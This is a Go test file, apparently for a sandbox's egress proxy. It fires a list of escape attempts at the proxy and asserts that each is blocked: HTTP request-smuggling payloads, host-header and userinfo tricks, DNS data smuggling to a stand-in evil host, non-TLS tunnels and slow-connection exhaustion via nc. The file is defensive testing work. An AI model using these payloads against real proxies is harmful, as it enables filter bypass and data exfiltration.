//go:build docker

package egress

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/synchestra-io/sandbox"
)

// attack is one on the gateway, by a job that has an access. Its script knows the servers $GOOD,
// which is allowed, and $EVIL and $HOST, which is where both are. seen is what must be seen,
// beside this: nobody comes to $EVIL.
type attack struct {
	name, tries, script string
	seen                func(t *testing.T, got string)
}

// refused wants a number of answers that are refusals, and none that is not.
func refused(times int) func(*testing.T, string) {
	return func(t *testing.T, got string) {
		require.Equal(t, times, strings.Count(got, "403 Forbidden"), got)
		require.NotContains(t, got, " 200 ")
	}
}

// denied wants no connection, and something that was tried.
func denied(t *testing.T, got string) {
	require.Contains(t, got, "denied: ")
	require.NotContains(t, got, "got: ")
}

// raw sends a request to the proxy as it is, and waits for the answer: one who hangs up takes the
// request back.
func raw(request string) string {
	request = strings.NewReplacer("GOOD", "$GOOD", "EVIL", "$EVIL", "WHERE", "$HOST").Replace(request)
	return fmt.Sprintf(`(printf "%s"; sleep 2) | nc 127.0.0.1 3128`, request)
}

var attacks = []attack{
	{"raw-ip", "connects without the proxy, over TCP", "/probe connect tcp/$EVIL tcp/$GOOD tcp/$HOST:22 tcp/1.1.1.1:443", denied},
	{"udp", "sends datagrams, as QUIC does", "/probe connect udp/$EVIL udp/$HOST:53 udp/1.1.1.1:443", denied},
	{"ports", "asks for other ports of the allowed host", raw(`CONNECT WHERE:22 HTTP/1.1\r\nHost: GOOD\r\n\r\n`), func(t *testing.T, got string) {
		require.Contains(t, got, "HTTP/1.1 403")
	}},
	{"dns", "carries data in names", "nslookup secret.evil.test; " + raw(`CONNECT secret.evil.test:443 HTTP/1.1\r\nHost: GOOD\r\n\r\n`), refused(1)},
	{"host-header", "names the allowed host, and another one in the header", raw(`GET http://GOOD/ HTTP/1.1\r\nHost: EVIL\r\nConnection: close\r\n\r\n`),
		func(t *testing.T, got string) {
			require.Contains(t, got, "200 OK")
			require.Contains(t, got, "hello from GOOD")
		}},
	{"target-header", "names another host, and the allowed one in the header", raw(`GET http://EVIL/ HTTP/1.1\r\nHost: GOOD\r\n\r\n`), refused(1)},
	{"user", "names the allowed host as a user", raw(`GET http://GOOD@EVIL/ HTTP/1.1\r\nHost: GOOD\r\n\r\n`), refused(1)},
	{"redirect", "follows the allowed host to another one", "wget -O - http://$GOOD/redirect 2>&1", refused(1)},
	{"pipeline", "sends a request for another host behind an allowed one",
		raw(`GET http://GOOD/ HTTP/1.1\r\nHost: GOOD\r\n\r\nGET http://EVIL/ HTTP/1.1\r\nHost: GOOD\r\n\r\n`), func(t *testing.T, got string) {
			require.Equal(t, 1, strings.Count(got, " 200 OK"), got)
			require.Equal(t, 1, strings.Count(got, " 403 Forbidden"), got)
		}},
	{"two-lengths", "lets proxy and server disagree about where a request ends", raw(`POST http://GOOD/ HTTP/1.1\r\nHost: GOOD\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://EVIL/ HTTP/1.1\r\nHost: EVIL\r\n\r\n`), once},
	{"odd-encoding", "hides an encoding from the proxy", raw(`POST http://GOOD/ HTTP/1.1\r\nHost: GOOD\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET http://EVIL/ HTTP/1.1\r\nHost: EVIL\r\n\r\n`), once},
	{"line-ends", "puts a header into another one's value", raw(`GET http://GOOD/ HTTP/1.1\r\nHost: GOOD\r\nX: a\nGET http://EVIL/ HTTP/1.1\r\n\r\n`), once},
	{"upgrade", "goes on with another protocol", raw(`GET http://GOOD/ HTTP/1.1\r\nHost: GOOD\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nCONNECT EVIL HTTP/1.1\r\n\r\n`), once},
	{"no-tls", "takes a tunnel for other things than TLS", raw(`CONNECT GOOD HTTP/1.1\r\nHost: GOOD\r\n\r\nGET http://EVIL/ HTTP/1.1\r\nHost: EVIL\r\n\r\n`),
		func(t *testing.T, got string) { require.NotContains(t, got, "hello") }},
}

// once wants no more than one answer that is no refusal.
func once(t *testing.T, got string) {
	require.LessOrEqual(t, strings.Count(got, " 200 OK"), 1, got)
	require.LessOrEqual(t, strings.Count(got, "hello"), 1, got)
}

// allowedServer says hello, and sends who wants it to another server. It returns its address, and
// how many requests it got that were not for it.
func allowedServer(t *testing.T, evil string) (string, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp4", net.JoinHostPort(bridgeAddress(t), "0"))
	require.NoError(t, err)
	odd := new(atomic.Int64)
	s := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Host != l.Addr().String() {
			odd.Add(1)
		}
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://"+evil+"/", http.StatusFound)
			return
		}
		fmt.Fprintln(w, "hello from GOOD")
	})}
	served := make(chan struct{})
	go func() { s.Serve(l); close(served) }()
	t.Cleanup(func() { s.Close(); <-served })
	return l.Addr().String(), odd
}

// TestAttacks makes each attack by a run of its own.
func TestAttacks(t *testing.T) {
	var came atomic.Int64
	l, err := net.Listen("tcp4", net.JoinHostPort(bridgeAddress(t), "0"))
	require.NoError(t, err)
	t.Cleanup(func() { l.Close() }) // behind the attacks
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			came.Add(1)
			conn.Close()
		}
	}()
	evil := l.Addr().String()
	good, odd := allowedServer(t, evil)
	host, _, _ := net.SplitHostPort(good)
	g, _ := open(t, context.Background(), good)
	for _, c := range attacks {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			j := shell(join(t, g), c.script)
			j.Env["GOOD"], j.Env["EVIL"], j.Env["HOST"] = good, evil, host
			c.seen(t, output(t, j))
			require.Zero(t, came.Load(), "%s: it came to another host", c.tries)
			require.Zero(t, odd.Load(), "%s: the allowed host was asked for another one", c.tries)
		})
	}
}

// A run that takes all that it may, slowly, takes nothing from the others.
func TestExhaustion(t *testing.T) {
	good, _ := allowedServer(t, "127.0.0.1:1")
	g, _ := open(t, context.Background(), good)
	for name, first := range map[string]string{
		"connections":   "",
		"slow headers":  "GET http://" + good + "/ HTTP/1.1\\r\\nX: ",
		"slow bodies":   "POST http://" + good + "/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 10\\r\\n\\r\\n",
		"slow messages": "CONNECT " + good + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\\026",
	} {
		t.Run(name, func(t *testing.T) {
			said, ready := firstLine()
			hostile := shell(join(t, g), fmt.Sprintf("for n in $(seq 100); do (printf '%s'; sleep 60) | nc 127.0.0.1 3128 >/dev/null & done; echo ready; wait", first))
			hostile.Stdout = said
			ctx, cancel := context.WithCancel(context.Background())
			ended := make(chan struct{})
			go func() { defer close(ended); sandbox.RunOnce(ctx, hostile) }()
			defer func() { cancel(); <-ended }()
			<-ready
			require.Contains(t, output(t, shell(join(t, g), "wget -q -O - http://"+good+"/")), "hello from GOOD")
		})
	}
}
